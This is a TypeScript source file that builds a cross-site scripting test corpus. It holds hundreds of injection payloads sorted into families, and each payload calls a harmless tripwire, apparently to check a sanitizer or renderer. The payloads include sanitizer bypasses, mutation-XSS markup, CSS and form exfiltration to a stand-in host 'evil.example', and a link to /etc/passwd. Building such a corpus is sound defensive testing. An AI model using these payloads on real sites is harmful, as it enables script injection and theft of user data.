// The XSS corpus: our own payloads, written from the categories of the well-known public lists, each calling a tripwire.
import { Buffer } from 'node:buffer';

/**
 * A payload template: `XSS` becomes the tripwire call for this payload (`__xss(17)`), `JS` a `javascript:`
 * URL making that call. Templates are ours, grouped by the attack families the public cheat sheets list.
 */
export interface Payload {
  id: number;
  category: string;
  text: string;
}

const RAW: [category: string, template: string][] = [];
const add = (category: string, ...templates: string[]) => {
  for (const t of templates) RAW.push([category, t]);
};

// Event handlers: elements that fire an event by themselves, without any user action.
add(
  'event handler',
  '<img src=x onerror=XSS>',
  '<img src="x" onerror="XSS">',
  '<img/src/onerror=XSS>',
  "<img src=x onerror='XSS'//",
  '<IMG SRC=x ONERROR=XSS>',
  '<img src onerror=XSS>',
  '<img src=x:x onerror=XSS>',
  '<img src=1 href=1 onerror="javascript:XSS">',
  '<svg onload=&#95;&#95;xss(0)>',
  '<img src=x onerror="&#95;&#95;xss(0)" data-alt=XSS>',
  '<image src=x onerror=XSS>',
  '<svg onload=XSS>',
  '<svg/onload=XSS>',
  '<svg onload=XSS//',
  '<body onload=XSS>',
  '<body onpageshow=XSS>',
  '<body onfocus=XSS>',
  '<iframe onload=XSS>',
  '<iframe src=x onload=XSS></iframe>',
  '<video src=x onerror=XSS></video>',
  '<video><source onerror=XSS></video>',
  '<audio src=x onerror=XSS></audio>',
  '<audio autoplay onplay=XSS src=x></audio>',
  '<input autofocus onfocus=XSS>',
  '<input type=image src=x onerror=XSS>',
  '<select autofocus onfocus=XSS></select>',
  '<textarea autofocus onfocus=XSS></textarea>',
  '<keygen autofocus onfocus=XSS>',
  '<button autofocus onfocus=XSS>b</button>',
  '<div tabindex=1 autofocus onfocus=XSS>d</div>',
  '<a id=f href=#f onfocus=XSS autofocus>a</a>',
  '<details open ontoggle=XSS>',
  '<details ontoggle=XSS open><summary>s</summary></details>',
  '<marquee onstart=XSS>m</marquee>',
  '<object data=x onerror=XSS></object>',
  '<style onload=XSS></style>',
  '<link rel=stylesheet href=x onerror=XSS>',
  '<script src=x onerror=XSS></script>',
  '<div style="animation-name:spin" onanimationstart=XSS>d</div>',
  '<p style="transition:color 1s" ontransitionend=XSS>t</p>',
  '<div onmouseover=XSS style="position:fixed;inset:0">cover</div>',
  '<div onpointerenter=XSS style="width:100vw;height:100vh">cover</div>',
  '<p onclick=XSS>click</p>',
  '<span onauxclick=XSS>aux</span>',
  '<table background=x onerror=XSS><tr><td>t</td></tr></table>',
  '<td onmouseenter=XSS>td</td>',
  '<form><button formaction=JS>f</button></form>',
  '<body onscroll=XSS><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br>',
  '<frameset onload=XSS>',
  '<xss onfocus=XSS autofocus tabindex=1>custom</xss>',
  '<h1 onbeforeinput=XSS contenteditable>edit</h1>',
  '<img src=x onerror=XSS onload=XSS>',
  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=XSS>',
  '<svg><animate onbegin=XSS attributeName=x dur=1s>',
  '<svg><set onbegin=XSS attributeName=x to=1>',
  '<svg><discard onbegin=XSS>',
  '<svg><image href=x onerror=XSS></svg>',
  '<img src=`x`onerror=XSS>',
  '<img src=x onerror\u000c=XSS>',
  '<img src=x onerror\u000b=XSS>',
  '<img src=x&#0;onerror=XSS>',
  '<img src=x onerror=\u2028XSS>',
);

// Scripts, plain and disguised.
add(
  'script',
  '<script>XSS</script>',
  '<SCRIPT>XSS</SCRIPT>',
  '<script type=module>XSS</script>',
  '<script type="text/javascript">XSS</script>',
  '<scr<script>ipt>XSS</scr</script>ipt>',
  '<<script>XSS//<</script>',
  '<script\u0009>XSS</script>',
  '<script/x>XSS</script>',
  '<script>/*</script><script>*/XSS</script>',
  '</title><script>XSS</script>',
  '</textarea><script>XSS</script>',
  '</style><script>XSS</script>',
  '</noscript><script>XSS</script>',
  '--><script>XSS</script>',
  '"><script>XSS</script>',
  "'><script>XSS</script>",
  '<script src="data:text/javascript,XSS"></script>',
  '<script>eval(atob("@SCRIPT64@"))</script>',
  '<script>setTimeout("XSS")</script>',
  '<script>new Function("XSS")()</script>',
  '<script\n>XSS</script\n>',
  '<sCrIpT>XSS</ScRiPt>',
  '<!--<script>--><script>XSS</script>',
  '<![CDATA[<script>XSS</script>]]>',
  '<?xml version="1.0"?><script>XSS</script>',
);

// javascript:, vbscript:, data: URLs in every attribute that takes a URL, with the scheme disguised.
const SCHEMES = [
  'javascript:XSS',
  'JaVaScRiPt:XSS',
  '&#106;avascript:XSS',
  '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;XSS',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058XSS',
  'java&#x09;script:XSS',
  'java&#x0A;script:XSS',
  'java&#13;script:XSS',
  '&#x01;javascript:XSS',
  ' &#14; javascript:XSS',
  'javascript&colon;XSS',
  'javascript&#58;XSS',
  'jav\tascript:XSS',
  '\u0001javascript:XSS',
  'javascript://%0aXSS',
  'vbscript:msgbox(XSS)',
];
for (const s of SCHEMES) add('javascript: URL', `<a href="${s}">link</a>`);
add(
  'javascript: URL',
  '<a href=JS>unquoted</a>',
  '<a href=" JS">space</a>',
  '<a href="JS" target=_blank>blank</a>',
  '<a href=JS rel=opener>opener</a>',
  '<a href="javas&Tab;cript:XSS">tab entity</a>',
  '<a href="javascript&NewLine;:XSS">newline entity</a>',
  '<a href=JS ping=https://evil.example/ping>ping</a>',
  '<area shape=rect coords=0,0,500,500 href=JS>',
  '<map name=m><area href=JS shape=default></map><img usemap=#m src=x>',
  '<iframe src=JS></iframe>',
  '<iframe srcdoc="<script>XSS</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=XSS&gt;"></iframe>',
  '<embed src=JS>',
  '<object data=JS></object>',
  '<form action=JS><input type=submit></form>',
  '<form><input type=submit formaction=JS value=go></form>',
  '<isindex action=JS type=image>',
  '<img src=JS>',
  '<img dynsrc=JS>',
  '<img lowsrc=JS>',
  '<input type=image src=JS>',
  '<video poster=JS></video>',
  '<table background=JS>',
  '<blockquote cite=JS>q</blockquote>',
  '<q cite=JS>q</q>',
  '<ins cite=JS>i</ins>',
  '<a href="data:text/html,<script>XSS</script>">data html</a>',
  '<a href="data:text/html;base64,@DATA64@">data b64</a>',
  '<a href="data:image/svg+xml,<svg onload=XSS>">data svg</a>',
  '<iframe src="data:text/html,<script>XSS</script>"></iframe>',
  '<iframe src="data:text/html;base64,@DATA64@"></iframe>',
  '<object data="data:text/html;base64,@DATA64@"></object>',
  '<embed src="data:image/svg+xml;base64,@SVG64@">',
  '<img src="data:image/svg+xml;base64,@SVG64@">',
  '<script src="data:;base64,@SCRIPT64@"></script>',
  '<a href="blob:https://evil.example/x">blob</a>',
  '<a href="file:///etc/passwd">file</a>',
  '<a href="https://evil.example/out">plain remote link</a>',
  '<a href="//evil.example/protocol-relative">protocol relative</a>',
);

// SVG and MathML: foreign content with its own parsing rules and URL attributes.
add(
  'svg/mathml namespace',
  '<svg><script>XSS</script></svg>',
  '<svg><script href=data:,XSS></script></svg>',
  '<svg><script xlink:href=data:,XSS></script></svg>',
  '<svg><a xlink:href=JS><text x=20 y=20>svg link</text></a></svg>',
  '<svg><a href=JS><text y=20>svg link 2</text></a></svg>',
  '<svg><a><animate attributeName=href values=JS /><text y=20>anim</text></a></svg>',
  '<svg><a><set attributeName=href to=JS /><text y=20>set</text></a></svg>',
  '<svg><use href="data:image/svg+xml;base64,@SVG64@#x"></use></svg>',
  '<svg><foreignObject><img src=x onerror=XSS></foreignObject></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>XSS</script>"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=XSS></style></svg>',
  '<svg><title><img src=x onerror=XSS></title></svg>',
  '<svg><desc><img src=x onerror=XSS></desc></svg>',
  '<svg><iframe onload=XSS></iframe></svg>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">XSS</handler></svg>',
  '<svg><feImage href=JS /></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><g onload=XSS></g></svg>',
  '<svg><![CDATA[><img src=x onerror=XSS>]]></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=XSS>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=XSS>',
  '<math><mi xlink:href=JS>math link</mi></math>',
  '<math href=JS><mtext>math href</mtext></math>',
  '<math><maction actiontype=statusline xlink:href=JS>m</maction></math>',
  '<math><mtext><h1><a><mglyph><svg><mtext><style><img src=x onerror=XSS></style></mtext></svg></mglyph></a></h1></mtext></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=XSS></annotation-xml></math>',
  '<math><annotation-xml encoding="application/xhtml+xml"><style><img src=x onerror=XSS></style></annotation-xml></math>',
  '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=XSS>">',
  '<math><style><img src=x onerror=XSS></style></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=XSS>',
  '<svg><p><style><g title="</style><img src=x onerror=XSS>">',
);

// Mutation XSS: markup that a sanitizer sees as harmless but that reparses into something else.
add(
  'mXSS',
  '<noscript><p title="</noscript><img src=x onerror=XSS>">',
  '<p title="</p><img src=x onerror=XSS>">',
  '<div title="</div><svg onload=XSS>">',
  '<textarea><img title="</textarea><img src=x onerror=XSS>"></textarea>',
  '<title><img title="</title><img src=x onerror=XSS>"></title>',
  '<style><img title="</style><img src=x onerror=XSS>"></style>',
  '<xmp><p title="</xmp><img src=x onerror=XSS>"></xmp>',
  '<iframe><img title="</iframe><img src=x onerror=XSS>"></iframe>',
  '<noembed><img title="</noembed><img src=x onerror=XSS>"></noembed>',
  '<noframes><img title="</noframes><img src=x onerror=XSS>"></noframes>',
  '<plaintext><img src=x onerror=XSS>',
  '<listing>&lt;img src=x onerror=XSS&gt;</listing>',
  '<img src="x` `<script>XSS</script>"` `>',
  '<a title="`"><img src=x onerror=XSS>`">t</a>',
  '<!-- --!><img src=x onerror=XSS> -->',
  '<!--><img src=x onerror=XSS>-->',
  '<!---><img src=x onerror=XSS>-->',
  '<?><img src=x onerror=XSS>',
  '<! foo="><img src=x onerror=XSS>">',
  '</ foo="><img src=x onerror=XSS>">',
  '<table><a><img src=x onerror=XSS></a></table>',
  '<table><tr><td><style></td></tr></table><img src=x onerror=XSS>',
  '<select><template><style><img src=x onerror=XSS></style></template></select>',
  '<select><iframe srcdoc="<img src=x onerror=XSS>">',
  '<div id="x"><svg><p><style><img src=x onerror=XSS>',
  '<a href="&#x26;#x6A;avascript:XSS">double encoded</a>',
  '<img src="&#x26;#x6A;avascript:XSS">',
  '<p>&lt;img src=x onerror=XSS&gt;</p>',
  '&lt;script&gt;XSS&lt;/script&gt;',
  '<img alt="&quot;><img src=x onerror=XSS>">',
  '<div>&#0;<script>XSS</script></div>',
  '<scr&#0;ipt>XSS</scr&#0;ipt>',
);

// Document-level tricks: base, meta refresh, frames, forms and dialogs that move or hijack the page.
add(
  'base/meta/navigation',
  '<base href="https://evil.example/">',
  '<base href=JS>',
  '<base target=_top href=//evil.example/>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=JS">',
  '<meta http-equiv="refresh" content="0; url=data:text/html;base64,@DATA64@">',
  '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">',
  '<meta http-equiv="set-cookie" content="stolen=1">',
  '<meta charset="utf-7">+ADw-script+AD4-XSS+ADw-/script+AD4-',
  '<link rel=import href=https://evil.example/x.html>',
  '<link rel=prefetch href=https://evil.example/prefetch>',
  '<link rel=dns-prefetch href=//evil.example>',
  '<link rel=preload as=script href=https://evil.example/x.js>',
  '<link rel=icon href=https://evil.example/favicon.ico>',
  '<link rel=manifest href=https://evil.example/m.json>',
  '<a href=https://evil.example/ autofocus>autofocus link</a>',
  '<form action=https://evil.example/steal method=post><input name=q value=x><button>send</button></form>',
  '<form id=auto action=https://evil.example/><input type=submit autofocus onfocus=this.form.submit()></form>',
  '<iframe src=https://evil.example/ name=x></iframe>',
  '<frame src=JS>',
  '<dialog open><form method=dialog><button onclick=XSS>x</button></form></dialog>',
  '<portal src=https://evil.example/></portal>',
  '<fencedframe src=https://evil.example/></fencedframe>',
  '<webview src=https://evil.example/></webview>',
  '<applet code=x codebase=https://evil.example/></applet>',
  '<a href=https://evil.example/ download>download</a>',
  '<a href="mailto:victim@example.org?body=<script>XSS</script>">mail</a>',
  '<a href="#/import" onclick=XSS>hash route</a>',
  '<a href="/api/importPaths" >api route</a>',
);

// CSS: url(), @import, expression(), behaviors, and style that overlays or exfiltrates.
add(
  'css',
  '<style>@import "https://evil.example/a.css";</style>',
  '<style>@import url(https://evil.example/b.css);</style>',
  '<style>body{background:url(https://evil.example/bg.png)}</style>',
  '<style>*{background-image:url("JS")}</style>',
  '<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>',
  '<div style="background:url(https://evil.example/c.png)">bg</div>',
  '<div style="background-image:url(&#x27;https://evil.example/d.png&#x27;)">bg2</div>',
  '<div style="background:url(JS)">bg3</div>',
  '<div style="width:expression(XSS)">ie</div>',
  '<div style="behavior:url(https://evil.example/x.htc)">htc</div>',
  '<div style="-moz-binding:url(https://evil.example/x.xml#x)">xbl</div>',
  '<div style="list-style-image:url(https://evil.example/e.png)"><li>li</li></div>',
  '<div style="cursor:url(https://evil.example/cur.png),auto">cursor</div>',
  '<div style="mask:url(https://evil.example/m.svg)">mask</div>',
  '<div style="position:fixed;inset:0;z-index:99999;background:white">overlay</div>',
  '<img style="content:url(https://evil.example/content.png)" alt=x>',
  '<style>input[value^="a"]{background:url(https://evil.example/a)}</style>',
  '<svg><style>@import "https://evil.example/svg.css";</style></svg>',
  '<p style="background:u\\rl(https://evil.example/escaped.png)">escaped</p>',
  '<link rel=stylesheet href=https://evil.example/s.css>',
);

// srcset, poster, lazy and other image URL carriers that reach the network without a script.
add(
  'srcset/remote media',
  '<img srcset="https://evil.example/1.png 1x, https://evil.example/2.png 2x">',
  '<img src=x srcset="https://evil.example/3.png 100w" sizes=100px>',
  '<picture><source srcset="https://evil.example/4.png"><img src=x></picture>',
  '<picture><source srcset="JS"><img alt=p></picture>',
  '<img src="https://evil.example/5.png">',
  '<img src="//evil.example/6.png">',
  '<img src="http://evil.example:80/7.png">',
  '<img src="https://127.0.0.1.evil.example/8.png">',
  '<img data-src="https://evil.example/9.png" loading=lazy>',
  '<video poster="https://evil.example/poster.png"></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<video><track src="https://evil.example/t.vtt"></video>',
  '<input type=image src="https://evil.example/i.png">',
  '<body background="https://evil.example/bg2.png">',
  '<svg><image href="https://evil.example/svg.png"/></svg>',
  '<svg><image xlink:href="https://evil.example/svg2.png"/></svg>',
  '<object data="https://evil.example/o.swf"></object>',
  '<embed src="https://evil.example/e.swf">',
  '<img src="asset:../../etc/passwd">',
  '<img src="/asset/0000000000000000000000000000000000000000000000000000000000000000?token=x">',
);

// DOM clobbering: names and ids that shadow globals the app or a sanitizer relies on.
add(
  'DOM clobbering',
  '<img name=getElementById>',
  '<form name=cookie></form>',
  '<a id=__xss href=JS>clobber tripwire</a>',
  '<form id=location></form>',
  '<img id=defaultView name=defaultView>',
  '<form name=body><input name=innerHTML></form>',
  '<img name=createElement>',
  '<a id=sessionStorage></a>',
  '<form id=attributes><input name=attributes></form>',
  '<form><input name=nodeName><input name=parentNode></form>',
  '<a id=x><a id=x name=y href=JS>xy</a>',
  '<iframe name=trustedTypes></iframe>',
  '<embed name=DOMPurify>',
  '<img name=stacks>',
  '<form id=CSS></form>',
);

// Templates, noscript and other elements whose content is parsed differently when moved.
add(
  'template/noscript',
  '<template><img src=x onerror=XSS></template>',
  '<template><script>XSS</script></template>',
  '<template shadowrootmode=open><img src=x onerror=XSS></template>',
  '<div><template shadowrootmode=open><script>XSS</script></template></div>',
  '<template><style></template><img src=x onerror=XSS></style>',
  '<noscript><img src=x onerror=XSS></noscript>',
  '<noscript><style></noscript><img src=x onerror=XSS>',
  '<noembed><img src=x onerror=XSS></noembed>',
  '<object><param name=src value=JS></object>',
  '<slot onclick=XSS>s</slot>',
  '<custom-element onconnected=XSS></custom-element>',
  '<a is=x onfocus=XSS autofocus href=#>is</a>',
);

// Entity and encoding tricks outside URLs.
add(
  'encoding',
  '&lt;img src=x onerror=XSS&gt;',
  '&#60;script&#62;XSS&#60;/script&#62;',
  '\\u003cscript\\u003eXSS\\u003c/script\\u003e',
  '%3Cscript%3EXSS%3C/script%3E',
  '<img src=x onerror="&#x5f;&#x5f;&#x78;&#x73;&#x73;(0)">',
  '<a href="&#00;javascript:XSS">nul entity</a>',
  '<a href="\u00a0javascript:XSS">nbsp</a>',
  '<a href="\ufeffjavascript:XSS">bom</a>',
  '<a href="javascript&#0;:XSS">nul</a>',
  '\u003cimg src=x onerror=XSS\u003e',
  '\uff1cscript\uff1eXSS\uff1c/script\uff1e',
  '<IMG """><SCRIPT>XSS</SCRIPT>">',
);

/** Base64 bodies some templates embed: a script page, an SVG with onload, a script. */
function b64(text: string): string {
  return Buffer.from(text).toString('base64');
}

/** The tripwire calls first (base64 bodies may hold the letters JS or XSS), then the encoded bodies. */
function fill(template: string, id: number): string {
  const call = `__xss(${id})`;
  return template
    .replaceAll('&#95;&#95;xss(0)', `&#95;&#95;xss(${id})`)
    .replaceAll('&#x5f;&#x5f;&#x78;&#x73;&#x73;(0)', `&#x5f;&#x5f;&#x78;&#x73;&#x73;(${id})`)
    .replaceAll('JS', `javascript:${call}`)
    .replaceAll('XSS', call)
    .replaceAll('@DATA64@', b64(`<script>${call}</script>`))
    .replaceAll('@SVG64@', b64(`<svg xmlns="http://www.w3.org/2000/svg" id="x" onload="${call}"/>`))
    .replaceAll('@SCRIPT64@', b64(call));
}

/** Every payload, numbered from 1, with its tripwire call filled in. */
export function buildPayloads(): Payload[] {
  return RAW.map(([category, template], i) => {
    const id = i + 1;
    const text = fill(template, id);
    return { id, category, text };
  });
}

/** Payloads in Markdown's own syntax (links, images, autolinks, reference definitions), for Markdown placements. */
export function markdownPayloads(first: number): Payload[] {
  const md = [
    '[md link](javascript:XSS)',
    '[md link](JaVaScRiPt:XSS)',
    '[md link](&#106;avascript:XSS)',
    '[md link](javascript&#58;XSS)',
    '[md link]( javascript:XSS)',
    '[md link](<javascript:XSS>)',
    '[md link](javascript:XSS "title")',
    '[md link](vbscript:XSS)',
    '[md link](data:text/html;base64,@DATA64@)',
    '[md link](https://evil.example/md)',
    '<javascript:XSS>',
    '<https://evil.example/autolink>',
    '![md image](javascript:XSS)',
    '![md image](https://evil.example/md.png)',
    '![md image](data:image/svg+xml;base64,@SVG64@)',
    '[md ref][r]\n\n[r]: javascript:XSS',
    '[md ref2][q]\n\n[q]: https://evil.example/ref "t"',
    '[<img src=x onerror=XSS>](https://example.org)',
    '[md text](https://example.org "<img src=x onerror=XSS>")',
    '`<img src=x onerror=XSS>`',
    '```html\n<script>XSS</script>\n```',
    '<div>\n\n<img src=x onerror=XSS>\n\n</div>',
    '> <script>XSS</script>',
    '* <svg onload=XSS>',
    '| a | <img src=x onerror=XSS> |\n|---|---|\n| b | c |',
    '[md link](javascript:XSS)<!-- -->',
    '**<a href=JS>bold link</a>**',
    '_<details open ontoggle=XSS>_',
  ];
  return md.map((template, i) => {
    const id = first + i;
    const text = fill(template, id);
    return { id, category: 'markdown syntax', text };
  });
}
